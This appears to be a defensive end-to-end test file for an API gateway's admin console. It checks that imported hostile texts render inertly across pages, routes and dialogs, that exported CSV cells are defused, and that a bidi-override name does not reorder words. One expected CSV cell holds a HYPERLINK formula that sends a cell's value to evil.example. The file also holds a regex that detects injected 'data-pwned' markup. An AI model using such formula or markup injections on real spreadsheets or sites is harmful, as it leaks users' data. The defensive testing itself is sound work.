import { afterAll, beforeAll, expect, test } from "bun:test";
import { readFileSync } from "node:fs";
import type { Page } from "playwright-core";
import type { Json } from "../gateway/gateway.ts";
import { chatAnswer } from "../upstream/chat-bytes.ts";
import { startUpstreamDouble, type UpstreamDouble } from "../upstream/double.ts";
import type { ConsolePage } from "./browser.ts";
import { useDesk } from "./desk.ts";
import { describeInLooks } from "./looks.ts";
import { HOSTILE, LOOK_FOR_TRACES } from "./hostile-text.ts";

// Texts that others chose stand on the screens as they are, and do nothing: names, reasons, fields (catalogue, S28).

test("there are sixty hostile texts, each of which could be a name", () => {
  expect(new Set(HOSTILE).size).toBe(60);
  expect(HOSTILE.filter((text) => text.length > 200)).toEqual([]);
});

describeInLooks("a hostile text", (next) => {
  let double: UpstreamDouble;
  beforeAll(async () => void (double = await startUpstreamDouble()));
  afterAll(() => double.close());
  const desk = useDesk(next, () => ({
    settings: JSON.stringify({
      providers: {
        evil: {
          base_url: `${double.url}/v1`,
          models: HOSTILE.map((text, at) => ({
            id: `evil/m-${at}`,
            display_name: text,
            summary: text,
            notes: [text],
            prices: { input: 1, output: 1 },
          })),
        },
      },
    }),
  }));
  let account: Json;
  const keys: Json[] = [];

  beforeAll(async () => {
    const { gateway } = desk;
    double.handle(() => chatAnswer());
    const make = async (path: string, body: object): Promise<Json> => {
      const { status, json } = await gateway.admin("POST", path, body);
      expect([body, status < 300]).toEqual([body, true]);
      return json;
    };
    for (const [at, text] of HOSTILE.entries()) {
      account = await make("/accounts", { name: text });
      await make(`/accounts/${account.id}/credits`, { amount: 1_000, reason: text });
      const key = await make("/keys", { account_id: account.id, name: text, budget: 900 });
      keys.push(key);
      const headers = { authorization: `Bearer ${key.key}` };
      const said = { model: `evil/m-${at}`, max_tokens: 8, messages: [{ role: "user", content: text }] };
      expect((await gateway.chat(said, { headers })).status).toBe(200);
      // A field, a model and a path that there are none of.
      for (const wrong of [
        { ...said, [text]: 1 },
        { ...said, model: text },
      ])
        await gateway.chat(wrong, { headers });
      await gateway.post(`/api/v1/models/${encodeURIComponent(text)}`, said, { headers });
    }
    for (const text of HOSTILE) await make(`/accounts/${account.id}/credits`, { amount: 1, reason: text });
  }, 120_000);

  const expectInert = async (opened: ConsolePage): Promise<void> => {
    const { page } = opened;
    expect([page.url(), await page.evaluate(LOOK_FOR_TRACES), opened.faults()]).toEqual([page.url(), [], []]);
  };
  /** Those of the texts that stand nowhere on the page. */
  const missing = async (page: Page): Promise<readonly string[]> => {
    const text: string = await page.evaluate("document.body.textContent");
    return HOSTILE.filter((each) => !text.includes(each));
  };
  const go = async (page: Page, path: string): Promise<void> => {
    await page.goto(`${desk.gateway.url}/console/${path}`);
    await page.getByRole("heading", { level: 1 }).first().waitFor();
    await page.waitForLoadState("networkidle");
  };

  desk.story("would be found where a page took it for markup", async (opened) => {
    const { page } = opened;
    // A screen that is still drawn would take away what is put into it.
    await go(page, "settings");
    // A page has one body, and one that is led away at once leaves nothing to look at.
    const markup = HOSTILE.filter((text) => /^[^&]*<(?!meta|body)[a-z]+[^>]* data-pwned/i.test(text));
    expect(markup.length).toBeGreaterThan(30);
    for (const text of markup) {
      await page.evaluate(`document.querySelector("main").innerHTML = ${JSON.stringify(text)}`);
      expect([text, await page.evaluate(LOOK_FOR_TRACES)]).not.toEqual([text, []]);
    }
    expect(opened.faults().some((fault) => fault.includes("policy: "))).toBe(true);
  });

  desk.story(
    "as the name of an account or a key is drawn as it is, in every list that has it",
    async (opened) => {
      const { page } = opened;
      const screens = ["accounts", "accounts?tab=keys", "requests", "requests?tab=refused", "keys/new"];
      for (const path of [...screens, "settings", "playground", "playground/images"]) {
        await go(page, path);
        await expectInert(opened);
        if (path !== "playground/images") expect([path, await missing(page)]).toEqual([path, []]);
      }
      for (const path of ["overview", "welcome", "tasks", "health"]) {
        await go(page, path);
        await expectInert(opened);
      }
      await opened.picture("hostile-overview");
    },
  );

  desk.story("as a name is drawn as it is on pages of one thing, and in their dialogs", async (opened) => {
    const { page } = opened;
    for (const { id, account_id, name } of keys.filter((_, at) => at % 20 === 9)) {
      await go(page, `keys/${id}`);
      expect(await page.getByRole("heading", { level: 1 }).textContent()).toBe(name);
      await page.getByRole("button", { name: "Revoke…" }).click();
      await page.getByRole("dialog", { name: `Revoke ${name}`, exact: true }).waitFor();
      await expectInert(opened);
      await go(page, `accounts/${account_id}`);
      await page.getByRole("button", { name: "Close…" }).click();
      const dialog = page.getByRole("dialog", { name: `Close ${name}`, exact: true });
      await dialog.getByLabel(/^Type the name/).fill(name);
      expect(await dialog.getByRole("button", { name: "Close for ever" }).isEnabled()).toBe(true);
      await expectInert(opened);
    }
  });

  desk.story("as a reason is drawn as it is in the ledger", async (opened) => {
    const { page } = opened;
    await go(page, `accounts/${account.id}`);
    expect(await missing(page)).toEqual([]);
    await expectInert(opened);
    await opened.picture("hostile-ledger");
  });

  desk.story("in a file for a spreadsheet is no formula", async ({ page }) => {
    await go(page, "accounts");
    const saved = page.waitForEvent("download");
    await page.getByRole("button", { name: "Export" }).click();
    const text = readFileSync(await (await saved).path(), "utf8");
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""a link"")"`);
    // No cell begins as a formula does, quoted or not.
    expect(text.match(/(^|,)"?[=+@\t\r]/gm)).toBeNull();
  });

  desk.story("as the name of a model, its summary or a note is drawn as it is", async (opened) => {
    const { page } = opened;
    await go(page, "models");
    expect(await missing(page)).toEqual([]);
    await expectInert(opened);
    for (let at = 0; at < HOSTILE.length; at += 20) {
      await go(page, `models/${encodeURIComponent(`evil/m-${at}`)}`);
      expect(await page.content()).toContain(`evil/m-${at}`);
      await expectInert(opened);
    }
    await page.keyboard.press("Control+k");
    await page.getByRole("combobox", { name: /^Go to/ }).fill("evil/");
    await page.getByRole("option", { name: /evil/ }).first().waitFor();
    await expectInert(opened);
  });

  desk.story("in an address is what it is: a text that is looked for", async (opened) => {
    const { page } = opened;
    await go(page, "models");
    for (const [at, text] of HOSTILE.entries()) {
      const value = encodeURIComponent(text);
      const [path, words] = [
        [`models?text=${value}&sort=${value}`, "models."],
        [`requests/${value}`, "There is no ended request of this id"],
        [`playground?model=${value}`, "There is no language model"],
      ][at % 3] as [string, string];
      // The router goes to an address without loading the page anew.
      await page.evaluate(
        `history.pushState({}, "", ${JSON.stringify(`/console/${path}`)}); dispatchEvent(new PopStateEvent("popstate"))`,
      );
      await page.getByText(new RegExp(words)).first().waitFor();
      expect([text, await page.evaluate(LOOK_FOR_TRACES)]).toEqual([text, []]);
    }
    expect(opened.faults()).toEqual([]);
  });

  desk.story("that turns the direction of writing leaves the words around a name alone", async ({ page }) => {
    const name = "\u202e321 (cba)";
    const { json } = await desk.gateway.admin("POST", "/accounts", { name });
    await go(page, `accounts/${json.id}`);
    await page.getByRole("button", { name: "Close…" }).click();
    await page
      .getByRole("dialog")
      .getByLabel(/^Type the name/)
      .waitFor();
    // The last word of the sentence is its last on the screen, too.
    const rightOf = (text: string): Promise<number> =>
      page.evaluate(`(() => {
        const words = document.querySelector("[role=dialog] label").firstChild;
        const range = document.createRange();
        range.setStart(words, words.data.indexOf("${text}"));
        range.setEnd(words, words.data.indexOf("${text}") + ${text.length});
        return range.getBoundingClientRect().right;
      })()`);
    expect(await rightOf("confirm")).toBeGreaterThan(await rightOf("321"));
  });
});
